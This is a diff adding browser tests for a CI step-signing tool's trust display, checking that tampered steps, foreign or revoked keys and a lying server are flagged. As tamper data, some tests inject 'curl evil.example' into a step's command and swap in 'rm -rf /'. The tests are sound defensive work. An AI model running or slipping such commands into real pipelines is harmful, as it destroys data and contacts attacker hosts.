@@ -1,0 +1,282 @@
+"""Trust as readers see it: a build that real agents made, then everything a server could do to how it looks."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from pipeseal.pipeline.parse import parse_command_step
+from pipeseal.pipeline.render import render_json, step_value
+from pipeseal.signing.keys.generate import KeyPair, generate_key_pair
+from pipeseal.signing.keys.signing_key import FileSigningKey
+from pipeseal.signing.sign import sign_step
+from tests.web.trust_scene import KEY_ID, Reader, Scene, sign_in, trust_scene
+
+pytestmark = pytest.mark.peer("chromium")
+Readers = Callable[..., Reader]
+
+
+@pytest.fixture(scope="module")
+def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
+    with trust_scene(tmp_path_factory.mktemp("trust")) as scene:
+        scene.api.rest("POST", "/keys", {"jwks": scene.public, "description": "the uploader"})
+        yield scene
+
+
+@pytest.fixture(scope="module")
+def signed_in(browser: Browser, scene: Scene) -> Any:
+    return sign_in(browser, scene)
+
+
+@pytest.fixture
+def readers(browser: Browser, scene: Scene, signed_in: Any) -> Iterator[Readers]:
+    made: list[Reader] = []
+
+    def make(**options: Any) -> Reader:
+        chosen = {"viewport": {"width": 1280, "height": 900}, "storage_state": signed_in, **options}
+        made.append(Reader(browser.new_context(**chosen), scene))
+        return made[-1]
+
+    yield make
+    for reader in made:
+        reader.context.close()
+    problems = [problem for reader in made for problem in reader.problems if "status of 40" not in problem]
+    assert problems == []
+
+
+@pytest.fixture
+def reader(readers: Readers) -> Reader:
+    """Somebody whose browser has seen the uploader's key before."""
+    reader = readers()
+    reader.draw("bar")
+    assert reader.mark == "verified", reader.says
+    return reader
+
+
+def resigned(scene: Scene, pair: KeyPair, text: str) -> str:
+    """The step, signed with another key, for the same repository and with the same variables."""
+    step = parse_command_step(text.encode())
+    assert step.signature is not None
+    job = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('lint')['id']}/env").json["env"]
+    env = {name[5:]: job[name[5:]] for name in step.signature.signed_fields if name.startswith("env::")}
+    step.env.pop("PIPESEAL_SEAL", None)
+    signed = sign_step(step, key=FileSigningKey(pair.key), repository_url=job["BUILDKITE_REPO"], pipeline_env=env)
+    return render_json(step_value(signed))
+
+
+def test_good_build_is_verified_by_its_uploader(readers: Readers, scene: Scene) -> None:
+    reader = readers()
+    page = reader.draw("bar")
+    assert reader.mark == "verified"
+    assert f"Steps of all 4 jobs verified: signed by {KEY_ID} ({scene.thumbprint[:8]}…)" in reader.says
+    assert "checked here" in reader.says
+    # The first time it says where the key is from; the second time it is known.
+    expect(page.get_by_text("This browser saw these keys here for the first time")).to_be_visible()
+    assert list(reader.remember()["keys"]) == [scene.thumbprint]
+    reader.draw("bar")
+    assert reader.mark == "verified"
+    expect(page.get_by_text("for the first time")).to_have_count(0)
+
+
+def test_trust_tab_shows_who_signed_and_what_that_does_not_cover(reader: Reader, scene: Scene) -> None:
+    page = reader.draw("tab")
+    assert reader.mark == "verified"
+    expect(page.locator("tbody .trust[data-trust=verified]")).to_have_count(4)
+    expect(page.locator("dl code")).to_have_text(scene.thumbprint)
+    expect(page.get_by_text("it was the first one that this browser saw here")).to_be_visible()
+    expect(page.get_by_role("heading", name="NOT covered")).to_be_visible()
+    expect(page.get_by_text("logs, annotations and artifacts")).to_be_visible()
+    expect(page.locator(".leopard")).to_contain_text(scene.api.url.removeprefix("http://"))
+
+
+def test_job_shows_what_was_signed_and_sealed(reader: Reader, scene: Scene) -> None:
+    page = reader.draw("job", "test")
+    assert reader.mark == "verified"
+    table = page.locator("table.signed")
+    expect(table).to_contain_text('echo "$GREETING from {{matrix}}"')
+    expect(table).to_contain_text('"LEVEL": "2"')
+    expect(table).to_contain_text(scene.build["commit"])
+    expect(table).not_to_contain_text("PIPESEAL_SEAL")
+    for what in ("command", "commit", "branch", "build", "pipeline", "matrix values"):
+        expect(page.get_by_text(f"{what}: the same", exact=True)).to_be_visible()
+    expect(page.get_by_role("heading", name="Seal")).to_be_visible()
+    expect(page.get_by_text(f"{KEY_ID} ({scene.thumbprint})")).to_be_visible()
+
+
+def test_step_changed_in_the_database_has_failed(reader: Reader, scene: Scene) -> None:
+    with scene.tampered("lint", lambda text: text.replace("echo linted", "echo linted; curl evil.example")):
+        reader.draw("bar")
+        assert (reader.mark, "Steps of 1 of 4 jobs: Step check FAILED" in reader.says) == ("failed", True)
+        page = reader.draw("job", "lint")
+        assert reader.mark == "failed"
+        expect(page.get_by_text(f"this is not the step that {KEY_ID} signed")).to_be_visible()
+        expect(page.get_by_text("pipeseal explain signature.mismatch")).to_be_visible()
+        expect(page.locator("table.signed")).to_have_count(0)
+    reader.draw("bar")
+    assert reader.mark == "verified"
+
+
+def test_facts_of_the_build_changed_in_the_database_have_failed(reader: Reader, scene: Scene) -> None:
+    commit = scene.build["commit"]
+    with scene.forged("UPDATE builds SET commit_id = :value WHERE number = 1", commit, "f" * 40):
+        reader.draw("bar")
+        assert reader.mark == "failed"
+
+
+def test_step_without_its_signature_is_not_signed(reader: Reader, scene: Scene) -> None:
+    def strip(text: str) -> str:
+        step = json.loads(text)
+        del step["signature"]
+        return json.dumps(step)
+
+    with scene.tampered("lint", strip):
+        reader.draw("bar")
+        assert (reader.mark, "3 of 4 jobs verified" in reader.says, "not signed" in reader.says) == (
+            "partial",
+            True,
+            True,
+        )
+        reader.draw("job", "lint")
+        assert (reader.mark, reader.says) == ("unsigned", "Step not signed")
+
+
+@pytest.mark.parametrize("kid", [KEY_ID, "somebody-else"])
+def test_another_key_is_an_unknown_signer_whatever_it_is_called(reader: Reader, scene: Scene, kid: str) -> None:
+    pair = generate_key_pair("EdDSA", kid)
+    (listed,) = scene.api.rest("POST", "/keys", {"jwks": json.loads(pair.public_set)}).json
+    try:
+        with scene.tampered("lint", lambda text: resigned(scene, pair, text.replace("linted", "owned"))):
+            page = reader.draw("job", "lint")
+            assert reader.mark == "unknown_signer"
+            assert f"{kid} ({pair.key.thumbprint()[:8]}…)" in reader.says
+            assert ("a key of the same name that you trust" in reader.says) == (kid == KEY_ID)
+            expect(page.get_by_text("you do not trust it in this browser")).to_be_visible()
+        page = reader.visit("/local/keys")
+        expect(page.get_by_role("heading", name="Other keys than this browser knows")).to_be_visible()
+    finally:
+        scene.api.rest("DELETE", f"/keys/{listed['id']}")
+
+
+def test_key_of_a_signature_that_nobody_has_is_no_answer(reader: Reader, scene: Scene) -> None:
+    pair = generate_key_pair("ES256", "unheard-of")
+    with scene.tampered("lint", lambda text: resigned(scene, pair, text)):
+        reader.draw("job", "lint")
+        assert (reader.mark, "nobody gave this page the key unheard-of" in reader.says) == ("cannot_check", True)
+
+
+def test_pin_in_the_link_is_the_only_key_that_counts(readers: Readers, scene: Scene) -> None:
+    reader = readers()
+    page = reader.draw("bar", fragment=f"#pin={scene.thumbprint}")
+    assert (reader.mark, "Checked against the pin in your link." in reader.says) == ("verified", True)
+    assert reader.remember() == {}
+    other = readers()
+    page = other.draw("bar", fragment=f"#pin={'A' * 43}")
+    assert (other.mark, "that you do not trust" in other.says) == ("unknown_signer", True)
+    # The tab goes on asking for it, until the reader says otherwise.
+    page = other.draw("tab")
+    assert other.mark == "unknown_signer"
+    page.get_by_role("button", name="Forget the pin").click()
+    expect(page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "verified")
+
+
+def test_revoked_key_is_said_to_be_revoked(reader: Reader, scene: Scene) -> None:
+    scene.api.rest("PATCH", f"/keys/{scene.thumbprint}", {"revoked": True})
+    try:
+        reader.draw("bar")
+        assert (reader.mark, "whose key was revoked; server says: on 20" in reader.says) == ("revoked", True)
+    finally:
+        scene.api.rest("PATCH", f"/keys/{scene.thumbprint}", {"revoked": False})
+
+
+# --- a server that lies in its answers ------------------------------------------------------------------------------
+
+
+def test_server_cannot_show_another_command_beside_a_good_signature(reader: Reader) -> None:
+    def change(build: Any) -> Any:
+        for job in build["jobs"]:
+            job["command"] = "rm -rf /" if job["step_key"] == "lint" else job["command"]
+        return build
+
+    reader.lie(r"/builds/1$", change)
+    reader.draw("job", "lint")
+    assert (reader.mark, "another command than the one that was signed" in reader.says) == ("failed", True)
+
+
+def test_server_cannot_make_up_what_was_signed(reader: Reader) -> None:
+    def change(found: Any) -> Any:
+        found["payload"]["values"]["command"] = "echo linted; curl evil.example"
+        return found
+
+    reader.lie(r"/signed-step$", change)
+    reader.draw("job", "lint")
+    assert reader.mark == "failed"
+
+
+def test_server_cannot_hide_fields_or_say_that_others_were_signed(reader: Reader) -> None:
+    def change(found: Any) -> Any:
+        found["signature"]["signed_fields"].remove("env")
+        del found["payload"]["values"]["env"]
+        return found
+
+    reader.lie(r"/signed-step$", change)
+    reader.draw("job", "lint")
+    assert (reader.mark, "does not cover what it must: env" in reader.says) == ("failed", True)
+
+
+def test_server_cannot_show_a_step_of_another_build(reader: Reader, scene: Scene) -> None:
+    """A good signature, of a step that was signed for something else: shown as if it were this job's."""
+    other = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('test')['id']}/signed-step").json
+    reader.lie(r"/signed-step$", lambda found: {**other, "job_id": found["job_id"]})
+    reader.draw("job", "lint")
+    assert (reader.mark, "signed for step test, and the server shows lint" in reader.says) == ("failed", True)
+
+
+def test_server_cannot_call_a_build_another_one(reader: Reader) -> None:
+    reader.lie(r"/builds/1$", lambda build: {**build, "branch": "release"})
+    reader.draw("bar")
+    assert (reader.mark, "signed for branch main, and the server shows release" in reader.says) == ("failed", True)
+
+
+def test_server_cannot_hand_over_a_key_in_anothers_name(reader: Reader, scene: Scene) -> None:
+    pair = generate_key_pair("EdDSA", KEY_ID)
+    forged = json.loads(pair.public_set)["keys"][0]
+    lent = {"id": scene.thumbprint, "kid": KEY_ID, "algorithm": "EdDSA", "jwk": forged, "revoked_at": None}
+    with scene.tampered("lint", lambda text: resigned(scene, pair, text)):
+        reader.lie(r"/signed-step$", lambda found: {**found, "keys": [lent]})
+        reader.draw("job", "lint")
+        assert reader.mark == "unknown_signer"
+        # It calls the key by the thumbprint that the reader trusts: worked out here, it is another.
+        assert pair.key.thumbprint()[:8] in reader.says
+    reader.lie(r"/keys\?", lambda keys: [{**lent, "created_at": "2026-01-01T00:00:00Z", "description": ""}])
+    page = reader.visit("/local/keys")
+    expect(page.get_by_text("The server calls this key by another thumbprint than it has.")).to_be_visible()
+
+
+def test_server_cannot_keep_steps_to_itself(reader: Reader) -> None:
+    reader.lie(r"/signed-steps\?", lambda found: found[:-1])
+    reader.draw("bar")
+    assert (reader.mark, "delivers no step of it" in reader.says) == ("missing", True)
+
+
+def test_server_cannot_keep_what_was_signed_to_itself(reader: Reader) -> None:
+    reader.lie(r"/signed-step$", lambda found: {**found, "payload": None})
+    reader.draw("job", "lint")
+    assert reader.mark == "missing"
+
+
+def test_steps_of_a_running_build_are_checked_so_far(reader: Reader) -> None:
+    reader.lie(r"/builds/1$", lambda build: {**build, "state": "running", "finished_at": None})
+    reader.draw("bar")
+    assert (reader.mark, "Running: the steps of 4 jobs so far are verified" in reader.says) == ("pending", True)
+
+
+def test_what_breaks_in_the_check_proves_nothing(reader: Reader) -> None:
+    reader.page.route("**/web/trust/worker.js", lambda route: route.abort())
+    reader.problems.clear()
+    reader.draw("job", "lint")
+    assert reader.mark == "cannot_check"
+    reader.problems.clear()
